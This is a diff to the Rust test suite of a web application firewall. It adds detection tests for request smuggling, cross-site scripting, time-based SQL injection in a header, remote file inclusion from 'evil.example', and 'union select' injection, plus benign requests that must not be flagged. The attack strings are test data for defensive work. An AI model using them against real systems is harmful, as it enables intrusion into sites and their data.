@@ -197,6 +197,7 @@ fn requests_that_smuggle_are_found_and_end_the_connection() {
         ("Content-Length : 5", "12345", 92107),
         ("Transfer-Encoding: xchunked", "", 92108),
         ("Transfer-Encoding:\x0bchunked", "", 92108),
+        ("Transfer-Encoding: chunked\x0c", "0\r\n\r\n", 92108),
         ("X: y\r\n Transfer-Encoding: chunked", "", 92104),
         ("Transfer-Encoding: chunked", "5;\r\nabc", 92112),
         ("Transfer-Encoding: chunked", "0x5\r\nabcde\r\n", 92110),
@@ -270,6 +271,32 @@ fn compressed_bodies_are_undone() {
         "POST / HTTP/1.1\r\n{HEADERS}Content-Type: text/plain\r\nContent-Encoding: gzip\r\nContent-Length: 4\r\n\r\nabcd"
     );
     assert!(ids(&mut waf(), broken.as_bytes()).contains(&92045));
+}
+
+#[test]
+fn attacks_are_found_in_paths_headers_and_names() {
+    let mut waf = waf();
+    for (request, id) in [
+        (format!("GET /a/%3Csvg%20onload=alert(1)%3E HTTP/1.1\r\n{HEADERS}\r\n"), 94101),
+        (format!("GET / HTTP/1.1\r\n{HEADERS}X-Forwarded-For: 1' and sleep(5)#\r\n\r\n"), 94203),
+        (format!("GET /?GALLERY_BASEDIR=http://evil.example/x/ HTTP/1.1\r\n{HEADERS}\r\n"), 93108),
+        (format!("GET /docs/union+select+1 HTTP/1.1\r\n{HEADERS}\r\n"), 94202),
+    ] {
+        let found = ids(&mut waf, request.as_bytes());
+        assert!(found.contains(&id), "{request}: {found:?}");
+    }
+    for request in [
+        format!("GET /docs/union-select-explained HTTP/1.1\r\n{HEADERS}\r\n"),
+        format!(
+            "GET /?path=http://www.example.com/x HTTP/1.1\r\n{HEADERS}X-Forwarded-For: 192.0.2.1, 10.0.0.1\r\n\r\n"
+        ),
+    ] {
+        assert_eq!(ids(&mut waf, request.as_bytes()), Vec::<u32>::new(), "{request}");
+    }
+    let login = post("application/json", b"{\"uname\": \"jo\", \"pwd\": \"aB3$%^&*()_+\"}");
+    assert_eq!(ids(&mut waf, &login), Vec::<u32>::new());
+    let body = post("application/grpc-web+proto", b"\0\0\0\0\x05\x0a\x03abc");
+    assert_eq!(ids(&mut waf, &body), Vec::<u32>::new());
 }
 
 #[test]
